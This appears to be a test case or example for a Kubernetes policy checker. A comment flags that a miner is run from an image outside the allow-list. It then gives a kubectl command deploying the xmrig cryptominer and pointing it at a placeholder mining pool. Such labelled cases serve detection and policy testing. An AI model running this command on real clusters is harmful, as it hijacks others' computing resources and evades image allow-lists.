# A miner is run.
#
# may: create deployments
# also: image-outside-allow-list: its registry is on nobody's list

kubectl create deployment worker --image=docker.io/xmrig/xmrig:6.21 -- \
  xmrig --url=stratum+tcp://pool.example.com:3333 --donate-level=1
